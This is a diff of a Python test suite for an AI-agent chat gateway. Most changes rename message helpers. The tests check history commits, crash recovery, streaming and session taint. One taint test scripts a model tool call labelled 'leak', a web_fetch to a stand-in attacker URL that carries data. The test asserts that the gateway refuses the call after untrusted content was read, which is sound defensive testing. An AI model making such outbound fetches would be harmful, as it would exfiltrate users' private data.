@@ -17,7 +17,7 @@ from gateway.core.messages import InboundMessage
 from gateway.store.repositories import sessions
 from tests.fakes.gated import Gated
 from tests.fakes.platform import Fault, StreamingPlatform
-from tests.gateway.parts import Parts, at_work, opened, running, said, typed
+from tests.gateway.parts import Parts, at_work, chat_message, console_message, opened, running
 from tests.gateway.store import faults
 from tests.gateway.stored import PRESENT
 
@@ -41,7 +41,7 @@ def append(id_: str, text: str) -> ToolCall:
 
 async def test_history_outbox_and_turn_are_committed_together(tmp_path: Path) -> None:
     async with running(tmp_path, [assistant("", (append("1", "x"),)), "done"]) as parts:
-        await take(parts, said("go"))
+        await take(parts, chat_message("go"))
         assert await parts.platform.answers("1", 1) == ["done"]
         stored = await history(parts)
         assert [m.role for m in stored] == ["user", "assistant", "tool", "assistant"]
@@ -54,7 +54,7 @@ async def test_history_outbox_and_turn_are_committed_together(tmp_path: Path) ->
 
 async def test_an_error_of_the_model_is_told_with_its_code(tmp_path: Path) -> None:
     async with running(tmp_path, [Rejected("the key is wrong"), "better"]) as parts:
-        await take(parts, said("go"), said("again"))
+        await take(parts, chat_message("go"), chat_message("again"))
         sorry, answer = await parts.platform.answers("1", 2)
         assert sorry == "⚠️ I could not answer: the key is wrong (rejected)"
         assert answer == "better"
@@ -67,7 +67,7 @@ async def test_every_request_continues_the_one_before(tmp_path: Path) -> None:
     model = ScriptedProvider(["one", assistant("", (append("1", "x"),)), "two", "three"])
     async with running(tmp_path, model) as parts:
         for n, text in enumerate(("a", "b", "c"), start=1):
-            await take(parts, said(text))
+            await take(parts, chat_message(text))
             await parts.platform.answers("1", n)
     for earlier, later in zip(model.requests, model.requests[1:], strict=False):
         assert list(later.messages[: len(earlier.messages)]) == list(earlier.messages)
@@ -97,7 +97,7 @@ class Cut:
 async def test_a_tool_that_has_run_is_not_run_again_after_a_kill(tmp_path: Path) -> None:
     model = Cut(append("1", "once"))
     async with running(tmp_path, model) as parts:
-        await take(parts, said("go"))
+        await take(parts, chat_message("go"))
         await model.hangs.wait()
     async with running(tmp_path, ["after"]) as parts:
         assert await parts.platform.answers("1", 1) == ["working\n\nafter"]
@@ -108,7 +108,7 @@ async def test_a_tool_that_has_run_is_not_run_again_after_a_kill(tmp_path: Path)
 async def test_an_unsafe_call_that_had_started_is_reported_as_unknown(tmp_path: Path) -> None:
     model = Cut(append("1", "once"), append("2", "twice"))
     async with running(tmp_path, model) as parts:
-        await take(parts, said("go"))
+        await take(parts, chat_message("go"))
         await model.hangs.wait()
         await parts.change("step", {"state": "started", "result": None}, n=2)
     async with running(tmp_path, ["after"]) as parts:
@@ -131,7 +131,7 @@ async def test_a_drained_turn_rests_before_its_next_tool_and_goes_on_later(tmp_p
 
     model = Pausing()
     async with opened(tmp_path, model) as parts, at_work(parts):
-        await take(parts, said("go"))
+        await take(parts, chat_message("go"))
         await model.was_asked("go")
         draining = asyncio.create_task(parts.bus.drain())
         await asyncio.sleep(0)
@@ -145,7 +145,7 @@ async def test_a_drained_turn_rests_before_its_next_tool_and_goes_on_later(tmp_p
 
 
 async def test_watchers_see_the_turn_and_its_end(tmp_path: Path) -> None:
-    message = said("hi")
+    message = chat_message("hi")
     seen: list[Event] = []
     async with (
         running(tmp_path, ["hello you"]) as parts,
@@ -163,7 +163,7 @@ async def test_watchers_see_the_turn_and_its_end(tmp_path: Path) -> None:
 async def test_a_long_answer_is_one_message_that_grows(tmp_path: Path) -> None:
     platform, model = StreamingPlatform(), Gated()
     async with running(tmp_path, model, platform=platform) as parts:
-        await take(parts, said("tell me"))
+        await take(parts, chat_message("tell me"))
         await platform.until(lambda: platform.texts("1"))
         assert await parts.stored("outbox", "state", "provider_msg") in (
             [("streaming", "1")],
@@ -180,7 +180,7 @@ async def test_a_long_answer_is_one_message_that_grows(tmp_path: Path) -> None:
 async def test_a_short_answer_is_a_single_send(tmp_path: Path) -> None:
     platform = StreamingPlatform()
     async with running(tmp_path, ["quick"], platform=platform) as parts:
-        await take(parts, said("hi"))
+        await take(parts, chat_message("hi"))
         await platform.answers("1", 1)
     assert [kind for kind, _, _ in platform.calls if kind != "typing"] == ["send"]
 
@@ -190,7 +190,7 @@ async def test_an_answer_whose_preview_was_shown_before_a_kill_is_an_edit_of_it(
 ) -> None:
     platform, model = StreamingPlatform(), Gated()
     async with running(tmp_path, model, platform=platform) as parts:
-        await take(parts, said("tell me"))
+        await take(parts, chat_message("tell me"))
         await parts.until_stored("outbox", provider_msg=PRESENT)
     open_now = Gated(is_open=lambda _: True)
     async with running(tmp_path, open_now, platform=platform) as parts:
@@ -204,7 +204,7 @@ async def test_an_answer_whose_preview_was_lost_in_a_kill_is_marked(tmp_path: Pa
     async with running(tmp_path, model, platform=platform) as parts:
         # As if the kill had come between the send and the note of its id.
         await parts.database.transact(faults.refuse, "UPDATE OF provider_msg ON outbox", "killed")
-        await take(parts, said("tell me"))
+        await take(parts, chat_message("tell me"))
         await platform.answers("1", 1)
     open_now = Gated(is_open=lambda _: True)
     async with running(tmp_path, open_now, platform=platform) as parts:
@@ -218,7 +218,7 @@ async def test_an_answer_whose_preview_may_have_arrived_is_marked(tmp_path: Path
     platform, model = StreamingPlatform(), Gated()
     platform.preview_faults.append(Fault(Ambiguous("reset"), arrives=True))
     async with running(tmp_path, model, platform=platform) as parts:
-        await take(parts, said("tell me"))
+        await take(parts, chat_message("tell me"))
         await parts.until_stored("outbox", maybe_dup=1)
         model.let_go()
         await parts.until_stored("outbox", state="sent")
@@ -228,7 +228,7 @@ async def test_an_answer_whose_preview_may_have_arrived_is_marked(tmp_path: Path
 async def test_what_a_session_took_in_is_kept_and_listed(tmp_path: Path) -> None:
     read = call("1", "read_file", path="log.txt")
     async with running(tmp_path, [assistant("", (append("0", "x"), read)), "done"]) as parts:
-        await take(parts, said("go"))
+        await take(parts, chat_message("go"))
         await parts.platform.answers("1", 1)
         # A stranger had it written, so reading it brings the stranger's words back.
         brought = [("private",), ("private,untrusted",)]
@@ -241,7 +241,7 @@ async def test_what_a_session_took_in_is_kept_and_listed(tmp_path: Path) -> None
 
 async def test_a_strangers_words_taint_the_session_at_once(tmp_path: Path) -> None:
     async with running(tmp_path, ["hello"]) as parts:
-        await take(parts, said("go"))
+        await take(parts, chat_message("go"))
         await parts.platform.answers("1", 1)
         (info,) = await parts.database.transact(sessions.recent, 5)
         assert info.taint == "untrusted"
@@ -252,9 +252,9 @@ async def test_taint_of_an_earlier_turn_closes_the_ways_out_of_a_later_one(tmp_p
     leak = call("2", "web_fetch", url="http://evil.invalid/?d=1")
     replies = [assistant("", (append("0", "x"), read)), "one", assistant("", (leak,)), "two"]
     async with running(tmp_path, replies) as parts:
-        await take(parts, said("go"))
+        await take(parts, chat_message("go"))
         await parts.platform.answers("1", 1)
-        await take(parts, said("on"))
+        await take(parts, chat_message("on"))
         await parts.platform.answers("1", 2)
         refused = [message for message in await history(parts) if message.role == "tool"][-1]
         assert refused.is_error
@@ -268,7 +268,7 @@ async def test_what_the_terminal_shows_of_its_folder_is_read_and_makes_the_sessi
     model = ScriptedProvider(["seen", "no"])
     async with running(tmp_path, model) as parts:
         with parts.events.watch("cli:local:main") as seen:
-            await parts.bus.submit(typed("look", options={"project": told}))
+            await parts.bus.submit(console_message("look", options={"project": told}))
             async for event in seen:
                 if isinstance(event, events.Evicted):
                     break
@@ -277,7 +277,7 @@ async def test_what_the_terminal_shows_of_its_folder_is_read_and_makes_the_sessi
         await parts.until_stored("turn", state="done")
         assert Context("[The folder /w]\na.py") in model.requests[0].messages[0].content
         # Only the terminal's own options count.
-        await parts.bus.submit(said("look", chat="9", options={"project": told}))
+        await parts.bus.submit(chat_message("look", chat="9", options={"project": told}))
         await parts.platform.until(lambda: parts.platform.texts("9"))
         assert not any("/w" in str(part) for part in model.requests[1].messages[0].content)
 
@@ -288,11 +288,11 @@ async def test_whoever_watches_hears_that_a_file_is_no_longer_what_was_seen(tmp_
     path.write_text("old")
     model = ScriptedProvider([assistant("", (call("1", "read_file", path="a.txt"),)), "read", "on"])
     async with running(tmp_path, model) as parts:
-        await parts.bus.submit(typed("read it"))
+        await parts.bus.submit(console_message("read it"))
         await parts.until_stored("turn", state="done")
         path.write_text("newer")
         with parts.events.watch("cli:local:main") as seen:
-            await parts.bus.submit(typed("go on"))
+            await parts.bus.submit(console_message("go on"))
             async for event in seen:
                 if isinstance(event, events.ContextInvalidated):
                     break
@@ -317,19 +317,19 @@ async def test_a_folder_that_hangs_holds_up_no_other_chat_and_its_own_is_told_on
 ) -> None:
     model = Gated(is_open=lambda _: True)
     async with running(tmp_path, model) as parts:
-        await parts.bus.submit(said("one", "1"))
+        await parts.bus.submit(chat_message("one", "1"))
         await parts.platform.answers("1", 1)
         await parts.until_stored("turn", state="done")
         ((session,),) = await parts.stored("session", "id")
         parts.agent.toolbox.views.saw(session, Hanging("/net/a.txt"), (1, 1, 1))
-        await parts.bus.submit(said("two", "1"))
+        await parts.bus.submit(chat_message("two", "1"))
         await parts.until_stored("turn", state="running")
-        await parts.bus.submit(said("other", "2"))
+        await parts.bus.submit(chat_message("other", "2"))
         assert await parts.platform.answers("2", 1) == ["re: other"]
         assert model.asked == ["one", "other"]
         Hanging.let_go.set()
         assert await parts.platform.answers("1", 2) == ["re: one", "re: two"]
-        await parts.bus.submit(said("three", "1"))
+        await parts.bus.submit(chat_message("three", "1"))
         await parts.platform.answers("1", 3)
         await parts.until_count(4, "turn", state="done")
         stored = await parts.database.transact(sessions.load_all, session)
